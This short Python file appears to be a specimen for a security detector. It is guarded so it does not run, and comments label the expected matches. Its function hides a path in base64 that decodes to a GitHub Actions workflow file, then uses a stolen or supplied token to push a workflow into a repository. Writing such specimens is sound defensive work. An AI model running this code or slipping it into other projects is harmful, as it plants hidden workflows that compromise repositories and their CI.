raise SystemExit("specimen: not to be run")
import base64
import requests

def begin(token, repository, body):
    where = "https://api.github.com/repos/" + repository + base64.b64decode("L2NvbnRlbnRzLy5naXRodWIvd29ya2Zsb3dzL2EueW1s").decode()
    requests.put(where, json=body, headers={"Authorization": token})  # match: repository-pushed  # match: hidden-address
